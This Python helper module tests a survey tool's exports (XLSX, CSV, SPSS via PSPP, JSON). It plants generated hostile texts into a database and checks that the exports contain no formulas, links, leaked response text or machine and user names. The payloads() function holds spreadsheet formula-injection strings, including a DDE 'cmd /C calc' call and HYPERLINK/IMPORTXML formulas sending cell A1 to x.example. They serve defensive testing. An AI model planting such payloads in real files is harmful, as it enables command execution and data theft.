"""The parts of export_readers.sh. Each reads by code of its own what chorus export wrote."""
import csv, glob, hashlib, io, json, os, random, re, socket, sqlite3, struct, subprocess, sys, tempfile, time, zipfile
import getpass, uuid
import xml.etree.ElementTree as tree
from decimal import Decimal

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
REL = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}"
MARK = "\u23ce"


# --- 500 hostile texts, planted as records (CBOR by hand) ---------------------------------------------------------------

def head(major, n):
    if n < 24:
        return bytes([major << 5 | n])
    for more, form in ((24, ">B"), (25, ">H"), (26, ">I")):
        if n < 1 << 8 * struct.calcsize(form):
            return bytes([major << 5 | more]) + struct.pack(form, n)


def cbor(x):
    if isinstance(x, int):
        return head(0, x) if x >= 0 else head(1, -1 - x)
    if isinstance(x, str):
        return head(3, len(x.encode())) + x.encode()
    return head(4, len(x)) + b"".join(map(cbor, x))


def uncbor(data, at=0):
    major, n = data[at] >> 5, data[at] & 31
    at += 1
    if n > 23:
        size = 1 << n - 24
        n, at = int.from_bytes(data[at:at + size], "big"), at + size
    if major < 2:
        return (n if major == 0 else -1 - n), at
    if major == 3:
        return data[at:at + n].decode(), at + n
    items = []
    for _ in range(n):
        item, at = uncbor(data, at)
        items.append(item)
    return items, at


def payloads(n, seed):
    rng = random.Random(seed)
    starts = ["=", "+", "-", "@", "|", "%", "\uff1d", "\uff0b", "\uff0d", "\uff20", "'", "'=", " =", "\u00a0=", "\u2003@", "\u3000+"]
    ends = ["1+1", "HYPERLINK(\"http://x.example/?\"&A1;\"see\")", "cmd|' /C calc'!A0", "SUM(A1:A9)", "IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")",
            "DDE(\"a\";\"b\";\"c\")", "http://x.example", "mailto:a@b.example", "_x0041_", "<f>1+1</f>", "]]>&amp;\"'", "1e9", "TRUE", "1/2/2026",
            "\na=1", f"{MARK}=1", f"'{MARK}'", "ok", "_x005F_x000D_", "ਪੰਜਾਬੀ ᐃᓄᒃᑎᑐᑦ", "شكرا 12", "🙏🏽", "0012", "  x  ", "#REF!"]
    return [rng.choice(["", *starts]) + rng.choice(ends) + rng.choice(["", ends[rng.randrange(len(ends))], "\n=" + rng.choice(ends)])
            for _ in range(n)]


def plant(folder, n, seed):
    db = sqlite3.connect(f"{folder}/chorus.db")
    bodies = [uncbor(body)[0] for (body,) in db.execute("SELECT body FROM response")]
    pattern = next(b for b in bodies if b[1] == "everything" and any(a[0] == "wish" for a in b[6]))
    event, source = db.execute("SELECT event_hash, source FROM response LIMIT 1").fetchone()
    texts = payloads(n, seed)
    for i in range(0, n, 2):  # two questions of the event take texts
        two = iter(texts[i:i + 2])
        answers = [[q, kind, 3, [next(two)]] if kind == "text" else [q, kind, state, value] for q, kind, state, value in pattern[6]]
        body = cbor(pattern[:6] + [answers])
        key = hashlib.sha256(b"%d %d" % (seed, i)).digest()[:16]
        total = hashlib.blake2b(key + event + source + body, digest_size=len(db.execute("SELECT sum FROM response").fetchone()[0]))
        db.execute("INSERT INTO response (id, event_hash, source, sum, body) VALUES (?, ?, ?, ?, ?)",
                   (key, event, source, total.digest(), body))
    db.commit()
    db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    db.close()


# --- XLSX ---------------------------------------------------------------------------------------------------------------

def decode(text):
    """Excel's own escapes in a cell (ECMA-376, ST_Xstring)."""
    return re.sub("_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), text)


def read_book(path):
    """Sheets as lists of rows; a number is a float. Nothing but strings and numbers is allowed in."""
    book = zipfile.ZipFile(path)
    assert book.testzip() is None
    names = book.namelist()
    assert all(re.fullmatch(r"\[Content_Types\]\.xml|_rels/\.rels|xl/(_rels/workbook\.xml\.rels|workbook\.xml|styles\.xml|theme/theme1\.xml|"
                            r"worksheets/sheet\d+\.xml)|docProps/(app|core)\.xml", n) for n in names), names
    targets = {r.get("Id"): r.get("Target") for r in tree.fromstring(book.read("xl/_rels/workbook.xml.rels"))}
    assert not [r for r in tree.fromstring(book.read("xl/_rels/workbook.xml.rels")) if r.get("TargetMode") == "External"]
    sheets, cells, formulas = {}, 0, 0
    for sheet in tree.fromstring(book.read("xl/workbook.xml")).iter(MAIN + "sheet"):
        root = tree.fromstring(book.read("xl/" + targets[sheet.get(REL + "id")]))
        formulas += len([e for e in root.iter() if e.tag in (MAIN + "f", MAIN + "hyperlink", MAIN + "extLst")])
        assert root.find(f".//{MAIN}pane").get("state") == "frozen" and root.find(MAIN + "autoFilter") is not None
        widths = [float(c.get("width")) for c in root.iter(MAIN + "col")]
        assert widths and all(8 <= w <= 65 for w in widths)
        rows = []
        for row in root.iter(MAIN + "row"):
            values = {}
            for cell in row:
                column = 0
                for letter in re.match("[A-Z]+", cell.get("r"))[0]:
                    column = column * 26 + ord(letter) - 64
                if cell.get("t") == "inlineStr":
                    values[column - 1] = decode("".join(t.text or "" for t in cell.iter(MAIN + "t")))
                elif cell.find(MAIN + "v") is not None:
                    assert cell.get("t") in (None, "n"), cell.get("t")
                    values[column - 1] = float(cell.find(MAIN + "v").text)
                cells += 1
            rows.append([values.get(i, "") for i in range(max(values) + 1 if values else 0)])
        sheets[sheet.get("name")] = rows
    assert formulas == 0, f"{path}: {formulas} formulas or links"
    return sheets, cells


def as_written(field):
    """A field of CSV without what guards it (app/export/csv.h, "Back again")."""
    drop = lambda line: line[1:] if line.startswith("'") else line
    parts, i = field.split(MARK), 1
    text = drop(parts[0])
    while i < len(parts):
        if parts[i] == "'" and i + 1 < len(parts):
            text, i = text + MARK + drop(parts[i + 1]), i + 2
        else:
            text, i = text + "\n" + drop(parts[i]), i + 1
    return text


def read_csv(path):
    return list(csv.reader(open(path, encoding="utf-8-sig", newline="")))


def books(*folders):
    for folder in folders:
        (path,) = glob.glob(f"{folder}/*-rows.xlsx")
        sheets, cells = read_book(path)
        assert list(sheets)[0] == "about"
        compared = 0
        for name, rows in sheets.items():
            if not os.path.exists(f"{folder}/{name}.csv"):
                continue
            table = read_csv(f"{folder}/{name}.csv")
            if name == "codebook":
                assert [r for r in table if r[4] == "format"] and [r for r in rows if r[4:5] == ["format"]]
                table, rows = [r for r in table if r[4] != "format"], [r for r in rows if r[4:5] != ["format"]]
            assert len(table) == len(rows), (name, len(table), len(rows))
            for want, got in zip(table, rows):
                got = got + [""] * (len(want) - len(got))
                assert len(want) == len(got), (name, len(want), len(got))
                for a, b in zip(want, got):
                    assert float(a) == b if isinstance(b, float) else as_written(a) == b, (name, a, b)
                    compared += 1
        assert compared > 500
        if folder.endswith("/ar"):
            assert b'rightToLeft="1"' in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
        print(f"{os.path.basename(path)}: {len(sheets)} sheets, {cells} cells, {compared} compared with CSV, 0 formulas, 0 links")
        read_book(path.replace("-rows", "-public")) if glob.glob(f"{folder}/*-public.xlsx") else None


def office(folder):
    for path in glob.glob(f"{folder}/*.xlsx"):
        sheets, _ = read_book(path)
        n = 0
        for name, rows in sheets.items():
            table = list(csv.reader(open(f"{path[:-5]}-{name}.csv", encoding="utf-8", newline="")))
            assert len(table) == len(rows), (name, len(table), len(rows))
            for want, got in zip(rows, table):
                want = want + [""] * (len(got) - len(want))
                assert len(want) == len(got), (path, name, want, got)
                for a, b in zip(want, got):
                    same = float(b) == a if isinstance(a, float) else a == b
                    assert same, (path, name, a, b)
                    n += 1
        print(f"LibreOffice reads {os.path.basename(path)}: {len(sheets)} sheets, {n} cells as they were written")


# --- SPSS ---------------------------------------------------------------------------------------------------------------

def run_pspp(sav, lines):
    with tempfile.NamedTemporaryFile("w", suffix=".sps") as f:
        f.write(f"SET TNUMBERS=VALUES TVARS=NAMES.\nGET FILE='{sav}'.\n" + lines)
        f.flush()
        done = subprocess.run(["pspp", "-O", "format=csv", f.name], capture_output=True, text=True)
    assert done.returncode == 0 and "warning" not in done.stdout + done.stderr, (done.stdout + done.stderr)[:600]
    return done.stdout


def tables(said):
    """FREQUENCIES of each variable: value -> cases, missing ones too."""
    found, name = {}, None
    for row in csv.reader(io.StringIO(said)):
        if row and row[0].startswith("Table: "):
            name = row[0][7:]
            found[name] = {}
        elif name and len(row) >= 3 and row[0] in ("Valid", "Missing", "") and re.fullmatch(r"-?[0-9.]+", row[1]):
            found[name][Decimal(row[1])] = int(row[2])
    return found


def frequencies(folder):
    (sav,), (xlsx,) = glob.glob(f"{folder}/*-rows.sav"), glob.glob(f"{folder}/*-rows.xlsx")
    book, _ = read_book(xlsx)
    columns, *rows = book["summary"]
    summary = [dict(zip(columns, r + [""] * (len(columns) - len(r)))) for r in rows]
    everybody = [r for r in summary if r["group"] == "[all]"]
    total = len(book["responses"]) - 1
    of = {r["activity"]: int(r["n"]) for r in everybody if r["measure"] == "responses"}
    kinds = {r["question"]: (r["kind"], r["activity"]) for r in everybody if r["question"]}
    header = book["responses"][0]
    wanted = [c for c in header[5:] if not c.endswith("/other_text") and c not in ("language", "entry_mode", "flags")]
    names = {c: c.replace("/", "_") + ("_state" if kinds[c.split("/")[0]][0] == "text" else "") for c in wanted}
    found = tables(run_pspp(sav, f"FREQUENCIES VARIABLES={' '.join(names.values())} /STATISTICS=NONE.\n"))
    choices = {q: [r["value"] for r in everybody if r["question"] == q and r["measure"] == "count"] for q, (k, _) in kinds.items() if k == "select_one"}
    agreed = 0
    for column, name in names.items():
        question, _, part = column.partition("/")
        kind, activity = kinds[question]
        own = [r for r in everybody if r["question"] == question]
        state = {r["measure"]: int(r["n"]) for r in own if r["measure"] in ("answered", "declined", "skipped", "not_asked")}
        seen = found[name]
        valid = {v: n for v, n in seen.items() if v > -90}
        left_out = state["answered"] - sum(valid.values())  # rows of a matrix that were passed over
        assert seen.get(-99, 0) == state["declined"] and seen.get(-98, 0) == state["skipped"] + left_out, (column, seen, state)
        assert seen.get(-97, 0) == state["not_asked"] + total - of[activity], (column, seen, state)
        assert left_out == 0 or kind == "matrix"
        counts = [r for r in own if r["measure"] == "count" and r["part"] == part]
        for r in counts if kind not in ("range", "integer", "decimal") else []:
            value = choices[question].index(r["value"]) + 1 if kind == "select_one" else 1 if kind == "select_multiple" else Decimal(r["value"])
            assert valid.get(Decimal(value), 0) == r["n"], (column, r["value"], valid, r["n"])
            agreed += 1
        agreed += 4
    dictionary = run_pspp(sav, "DISPLAY DICTIONARY.\n")
    texts = {r["question_text"] for r in everybody if r["question_text"] and r["kind"] != "ties"} | {r["value_text"] for r in everybody if r["kind"] == "select_one" and r["value_text"]}
    flat = dictionary.replace('""', '"')
    missing = [t for t in texts if t[:40] not in flat]
    assert not missing, missing
    stored = open(sav, "rb").read(176)
    assert b"01 Jan 8000:00:00" in stored, stored
    print(f"PSPP reads {os.path.basename(folder)}/{os.path.basename(sav)}: {total} cases, {len(names)} variables, {agreed} numbers agree with the summary, {len(texts)} labels")


# --- JSON, public, clean ------------------------------------------------------------------------------------------------

def schemas(*folders):
    import jsonschema
    for folder in folders:
        for path in sorted(glob.glob(f"{folder}/*.json")):
            if path.endswith(".schema.json"):
                continue
            data = json.load(open(path, encoding="utf-8"))
            kind = "survey" if "chorus_survey" in data else "brainstorm"
            validator = jsonschema.Draft202012Validator(json.load(open(f"{folder}/{kind}.schema.json", encoding="utf-8")))
            faults = [f"{list(e.path)}: {e.message[:200]}" for e in validator.iter_errors(data)]
            assert not faults, (path, faults[:5])
            few = {name: rows[:2] if isinstance(rows, list) else rows for name, rows in data.items()}
            assert validator.is_valid(few)
            for broken in ({**few, "k": 4}, {**few, "more": 1}, {**few, "flavour": "public" if few["flavour"] == "rows" else "rows"}):
                assert not validator.is_valid(broken), path
            print(f"{os.path.basename(path)}: as its schema says")
            if kind == "survey" and data["flavour"] == "rows":
                compare_json(folder, data)


def compare_json(folder, data):
    header, *rows = read_csv(f"{folder}/responses.csv")
    assert [r["response"] for r in data["responses"]] == [row[0] for row in rows]
    n = 0
    for response, row in zip(data["responses"], rows):
        cells = dict(zip(header, row))
        assert (cells["activity"], cells["site"] or None, cells["slot"], cells["event_version"], cells["entry_mode"], cells["flags"]) == \
               (response["activity"], response["site"], response["slot"], response["event_version"], response["entry_mode"], response["flags"])
        for column in header[5:-2]:
            question, _, part = column.partition("/")
            answer = response["answers"].get(question, {"state": "not_asked"})
            value = answer.get("value")
            if answer["state"] != "answered":
                want = f"[{answer['state']}]"
            elif part == "other_text":
                want = answer.get("other", "")
            elif isinstance(value, list):
                kind = next(q["kind"] for q in data["questions"] if q["question"] == question)
                want = str(int(part in value)) if kind == "select_multiple" else str(value.index(part) + 1) if part in value else ""
            elif isinstance(value, dict):
                want = str(value.get(part, "[skipped]"))
            else:
                want = value
            got = cells[column]
            assert Decimal(got) == Decimal(str(want)) if isinstance(want, (int, float)) else as_written(got) == want, (column, got, want)
            n += 1
    print(f"{n} cells of responses.csv are in the JSON")


def contents(path):
    data = open(path, "rb").read()
    if path.endswith(".xlsx"):
        book = zipfile.ZipFile(path)
        assert all(i.date_time == (1980, 1, 1, 0, 0, 0) and not i.extra and not i.comment for i in book.infolist())
        data += b"".join(book.read(i) for i in book.infolist())
    return data


def public(*folders):
    """Nothing of a row, and no text that somebody wrote, in any public file; the row-level files hold them."""
    for folder in folders:
        secret = set()
        for name, column in (("answers", "value"), ("ideas", "text")):
            if os.path.exists(f"{folder}/{name}.csv"):
                header, *rows = read_csv(f"{folder}/{name}.csv")
                for row in rows:
                    cells = dict(zip(header, row))
                    ours = name == "answers" and re.fullmatch(r"[a-z0-9_.-]*", cells[column])
                    if not ours and cells.get("status") not in ("seed",) and len(cells[column]) > 12:
                        secret.add(as_written(cells[column]).split("\n")[0].encode())
                    secret.add((cells.get("response") or "").encode())
        secret = {s for s in secret if len(s) > 12}
        files = [p for p in glob.glob(f"{folder}/*-public*")]
        for path in files:
            data = contents(path)
            found = [s for s in secret if s in data]
            assert not found, (path, found[:3])
        rows = b"".join(contents(p) for p in glob.glob(f"{folder}/*.csv"))
        assert sum(s in rows for s in secret) > len(secret) * 0.5  # it sees; some are written otherwise there
        print(f"{len(files)} public files hold none of {len(secret)} texts and numbers of rows")


def clean(*folders):
    """TRUST P12."""
    now = time.time()
    words = {socket.gethostname(), os.uname().nodename, os.environ.get("HOME", ""), os.environ.get("HOSTNAME", ""), "/tmp/", folders[0]}
    words |= {getpass.getuser()} if len(getpass.getuser()) > 4 else set()
    words |= {time.strftime(f, time.gmtime(now + d * 86400)) for d in (-1, 0, 1) for f in
              ("%Y-%m-%d", "%Y%m%d", "%d/%m/%Y", "%m/%d/%Y", "%d %b %y", "%d.%m.%Y")}
    words |= {f"{uuid.getnode():012x}"}
    words = {w.encode() for w in words if len(w) > 4}
    size = n = 0
    for folder in folders:
        for path in glob.glob(f"{folder}/*"):
            data = contents(path)
            found = [w for w in words if w in data]
            assert not found, (path, found)
            size, n = size + len(data), n + 1
    print(f"{n} files, {size} bytes: 0 of {len(words)} names of this machine, its user and these days")


if __name__ == "__main__":
    what, *args = sys.argv[1:]
    if what == "plant":
        plant(args[0], int(args[1]), int(args[2]))
    else:
        {"books": books, "office": office, "frequencies": frequencies, "schemas": schemas, "public": public, "clean": clean}[what](*args)
